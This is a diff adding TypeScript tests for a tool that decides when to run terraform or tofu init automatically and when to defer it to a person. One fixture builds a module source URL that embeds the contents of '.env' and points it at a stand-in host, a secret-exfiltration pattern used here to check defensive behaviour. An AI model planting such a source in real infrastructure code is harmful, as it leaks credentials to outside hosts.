@@ -92,6 +92,102 @@ describe("whether init is run", () => {
   });
 });
 
+describe("where init would run or send what the repo says", () => {
+  const tofu = { tools: ["tofu 1.11.0"] };
+  const module = (source: string, more = "") => `module "a" {\n  source = ${source}\n${more}}\n`;
+  const made = module('"https://a.example/?${file(".env")}"');
+  const block = (body: string) => `terraform {\n  ${body}\n}\n`;
+  const local = block('backend "local" {}');
+  const far = module('"a/b/c"');
+  const stored = (type: string) => JSON.stringify({ backend: { type, config: {} } });
+  const byHand = ["info terraform.by-hand"];
+
+  it.each<[string, Given, readonly string[]]>([
+    ["a module that another host has", { files: { "infra/a.tf": far } }, ["terraform init"]],
+    [
+      "the same, where sources are worked out",
+      { tools: ["terraform 1.15.0"], files: { "infra/a.tf": far } },
+      byHand,
+    ],
+    ["a release that is not said", { tools: ["terraform"], files: { "infra/a.tf": far } }, byHand],
+    ["the same, with tofu", { ...tofu, files: { "infra/a.tf": far } }, byHand],
+    [
+      "a module of the repo, with tofu",
+      { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tf": "locals {\n}\n" } },
+      ["tofu init"],
+    ],
+    ["a source that is made", { ...tofu, files: { "infra/a.tf": made } }, byHand],
+    [
+      "one in a module of the repo",
+      { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tofu": made } },
+      byHand,
+    ],
+    [
+      "one that there is none of",
+      { ...tofu, files: { "infra/a.tf": module('"./x"', "count = 0\n") } },
+      byHand,
+    ],
+    [
+      "one in JSON, with escapes",
+      { ...tofu, files: { "infra/a.tf.json": '{"\\u006dodule": {"a": {"source": "a/b/c"}}}' } },
+      byHand,
+    ],
+    ["one in a test", { ...tofu, files: { "infra/tests/a.tftest.hcl": "" } }, byHand],
+    [
+      "a module that is not understood",
+      { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tf": "module {" } },
+      byHand,
+    ],
+    [
+      "encryption by a program",
+      {
+        ...tofu,
+        files: { "infra/a.tf": block('encryption {\n    key_provider "external" "x" {}\n  }') },
+      },
+      byHand,
+    ],
+    [
+      "a block of a later release, in JSON",
+      { files: { "infra/a.tf.json": '{"terraform": {"state_store": {"x": {}}}}' } },
+      byHand,
+    ],
+    [
+      "notes of another backend than the code's",
+      {
+        files: { "infra/a.tf": local, "infra/.terraform/terraform.tfstate": stored("kubernetes") },
+      },
+      byHand,
+    ],
+    [
+      "notes of the code's local one",
+      { files: { "infra/a.tf": local, "infra/.terraform/terraform.tfstate": stored("local") } },
+      ["terraform init"],
+    ],
+    [
+      "providers, and a state that may be anywhere",
+      { files: { ...INIT, "infra/a.tf": block('backend "local" {\n    path = "x"\n  }') } },
+      byHand,
+    ],
+  ])("%s", async (_, given, expected) => {
+    expect(planned((await plan(given)).part)).toEqual(expected);
+  });
+
+  it("what leads into the repo is not passed on", async () => {
+    const env = {
+      PATH: "/repo/node_modules/.bin:/usr/bin",
+      GIT_CONFIG_GLOBAL: "/repo/gitconfig",
+      GIT_SSH_COMMAND: "ssh -F /repo/ssh",
+      TF_DATA_DIR: "/repo/data",
+      AWS_REGION: "nyc3",
+    };
+    const [{ without = [], with: given = new Map() } = {}] =
+      (await plan({ env })).part.commands ?? [];
+    const kept = Object.keys(env).filter((name) => !without.includes(name));
+    expect(kept).toEqual(["PATH", "TF_DATA_DIR", "AWS_REGION"]);
+    expect(given.get("PATH")).toBe("/usr/bin");
+  });
+});
+
 describe("with a state on Spaces", () => {
   const given = { config: BACKEND, env: KEYS };
   const locked = { config: LOCK, env: KEYS, locks: LOCKED };
